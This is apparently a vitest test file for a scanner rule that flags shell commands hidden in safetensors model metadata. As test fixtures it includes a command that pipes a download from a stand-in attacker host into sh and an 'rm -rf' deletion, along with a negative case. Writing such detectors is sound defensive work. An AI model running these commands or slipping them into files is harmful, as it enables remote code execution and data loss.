import { describe, it } from "vitest";
import { buildSafetensors, expectSafeRule } from "../../test-support/safetensors-builder.js";

describe("ST011", () => {
  it("catches curl piped into sh", async () => {
    await expectSafeRule(buildSafetensors({ metadata: { setup: "curl -s http://evil.example/x | sh" } }), "ST011", true, "model.safetensors");
  });
  it("catches rm -rf", async () => {
    await expectSafeRule(buildSafetensors({ metadata: { cleanup: "rm -rf /tmp/x && echo ok" } }), "ST011", true, "model.safetensors");
  });
  it("does not fire on a description with the word curl", async () => {
    await expectSafeRule(buildSafetensors({ metadata: { description: "curl-free training recipe; rm stands for reward model" } }), "ST011", false, "model.safetensors");
  });
});
